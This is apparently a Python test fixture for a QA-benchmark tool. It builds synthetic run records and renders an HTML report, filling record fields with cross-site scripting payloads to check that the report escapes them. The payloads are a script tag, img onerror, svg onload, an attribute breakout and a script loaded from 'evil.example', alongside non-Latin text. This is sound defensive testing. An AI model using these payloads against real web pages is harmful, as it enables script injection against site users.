"""Records shaped like a real run's, and the HTML report rendered from them.

Records are built through :class:`bcas.records.Record` and stored as its
``to_dict()``, exactly as ``finalize_run`` hands them to the report.  The hostile
strings try to run script in the page; each one marks ``data-pwned`` on the body
(or sets ``window.__pwned``, or changes the title) if it ever executes.
"""

from __future__ import annotations

import random
from pathlib import Path
from typing import Any

from bcas.grids import GRIDS
from bcas.records import Record
from bcas.report.comparisons import Comparison
from bcas.report.html import render_report
from bcas.report.summary import SummaryRow, write_summaries

MODEL = "smollm2-135m"
DATASET = "hotpotqa"

SCRIPT_TAG = "<script>window.__pwned=1;document.body.dataset.pwned='1'</script>"
IMG_ONERROR = "\"><img src=x onerror=\"document.title='pwned';document.body.dataset.pwned='1'\">"
SVG_ONLOAD = "</textarea><svg onload=alert(1)>"
ATTR_BREAKOUT = "' onmouseover='document.body.dataset.pwned=1' x='"
EXTERNAL_SCRIPT = '<script src="https://evil.example/x.js"></script><link rel=stylesheet href="//evil.example/s.css">'
HOSTILE = (SCRIPT_TAG, IMG_ONERROR, SVG_ONLOAD, ATTR_BREAKOUT, EXTERNAL_SCRIPT)

ARABIC = "ما هي عاصمة فرنسا؟"
CJK = "東京は日本の首都ですか？ 北京是中国的首都吗？ 서울은 한국의 수도입니까?"
EMOJI = "🧪🔥 👩‍🔬 🇫🇷 1️⃣"
RTL_MARKS = "\u202etxet desrever\u202c \u200fمرحبا\u200e \u2067isolated\u2069"
COMBINING = "e\u0301 Zalgo: Z\u0351\u0364a\u0362l\u0315g\u0328o"
NON_LATIN = (ARABIC, CJK, EMOJI, RTL_MARKS, COMBINING)

LONG_TEXT = ("Lorem ipsum dolor sit amet " * 4000)[:100_000]


def make_record(
    label: str,
    item_id: str,
    correct: bool,
    *,
    grid: str = "search_scaling",
    model: str = MODEL,
    dataset: str = DATASET,
    reference: bool = False,
    question: str | None = None,
    prediction: str | None = None,
    answers: list[str] | None = None,
    step_text: str | None = None,
    titles: list[str] | None = None,
    seed: int = 0,
) -> dict[str, Any]:
    """One BCAS record as ``Record.to_dict()`` gives it, with a search/answer trajectory."""
    rng = random.Random(f"{seed}-{label}-{item_id}")
    searches = rng.randint(1, 3)
    steps: list[dict[str, Any]] = []
    for s in range(searches):
        query = step_text if step_text is not None else f"who directed film {item_id} part {s}"
        steps.append(
            {
                "kind": "search",
                "query": query,
                "output": "",
                "tokens_in": 0,
                "tokens_out": 0,
                "max_tokens": 0,
                "retrieved": [f"d{s}#0", f"d{s}#1"],
                "docs": [f"d{s}"],
                "titles": titles or [f"Doc {s}", f"Doc {s}b"],
                "cached": False,
                "latency_s": 0.01,
                "finish_reason": "",
                "flag": "",
                "note": "",
            }
        )
        steps.append(
            {
                "kind": "act",
                "query": None,
                "output": step_text if step_text is not None else f'{{"thought": "search {s}", "action": "search"}}',
                "tokens_in": 300 + 40 * s,
                "tokens_out": 24,
                "max_tokens": 256,
                "retrieved": [],
                "docs": [],
                "cached": False,
                "latency_s": 0.2,
                "finish_reason": "stop",
                "flag": "",
                "note": "",
            }
        )
    gold = answers or ["Christopher Nolan"]
    pred = prediction if prediction is not None else (gold[0] if correct else "Steven Spielberg")
    tokens_in = sum(s["tokens_in"] for s in steps) + 420
    tokens_out = sum(s["tokens_out"] for s in steps) + 12
    record = Record(
        run_id="run-test",
        config_id=f"cfg-{label}",
        model=model,
        dataset=dataset,
        dataset_hash="0123456789abcdef",
        item_id=item_id,
        question=question if question is not None else f"Who directed the film in item {item_id}?",
        answers=list(gold),
        prediction=pred,
        correct_em=correct,
        f1=1.0 if correct else 0.0,
        config={"label": label},
        label=label,
        judge_verdict=correct,
        searches_used=searches,
        tokens_in=tokens_in,
        tokens_out=tokens_out,
        llm_calls=searches + 1,
        stop_reason="answered",
        latency_s=0.5,
        cost_usd=round(tokens_in * 1e-7 + tokens_out * 4e-7, 9),
        price_sheet="default",
        steps=steps,
        extra={"grid": grid, "kind": "bcas", "reference": reference, "case_id": f"{model}-{dataset}-{label}"},
        created_at=1_700_000_000.0,
    )
    return record.to_dict()


def grid_records(grid: str = "search_scaling", n_items: int = 12, seed: int = 0, **fields: Any) -> list[dict[str, Any]]:
    """Records for every configuration of ``grid`` on ``n_items`` items; accuracy rises along the grid."""
    rng = random.Random(seed)
    out = []
    entries = GRIDS[grid].entries
    for rank, entry in enumerate(entries):
        p = 0.25 + 0.5 * rank / max(1, len(entries) - 1)
        for i in range(n_items):
            out.append(
                make_record(
                    entry.label,
                    f"q{i:03d}",
                    rng.random() < p,
                    grid=grid,
                    reference=entry.reference,
                    seed=seed,
                    **fields,
                )
            )
    return out


def render(
    run_dir: Path,
    records: list[dict[str, Any]],
    title: str = "bcas report",
) -> tuple[Path, list[SummaryRow], list[Comparison]]:
    """``write_summaries`` then ``render_report``, as a finished run does."""
    summaries = write_summaries(run_dir, records)
    rows, comparisons = summaries.rows, summaries.comparisons
    order = {name: [e.label for e in grid.entries] for name, grid in GRIDS.items()}
    path = render_report(run_dir, records, rows, comparisons, order, title=title, methods=summaries.methods)
    return path, rows, comparisons


def hostile_records() -> list[dict[str, Any]]:
    """A small two-configuration run whose text fields carry every hostile and non-Latin string."""
    payload = " ".join(HOSTILE)
    records = []
    texts = [*HOSTILE, *NON_LATIN, LONG_TEXT]
    for label, reference in (("hs/s1/t16k", True), ("hs/s2/t16k" + SCRIPT_TAG, False)):
        for i, text in enumerate(texts):
            records.append(
                make_record(
                    label,
                    f"item-{i}{IMG_ONERROR}",
                    i % 2 == 0,
                    reference=reference,
                    model=MODEL + SVG_ONLOAD,
                    dataset=f"{DATASET}-{ARABIC}",
                    question=f"{text} {payload}" if text is not LONG_TEXT else text,
                    answers=[text, payload],
                    prediction=f"{payload} {text}",
                    step_text=text,
                    titles=[text, payload, EMOJI],
                )
            )
    return records
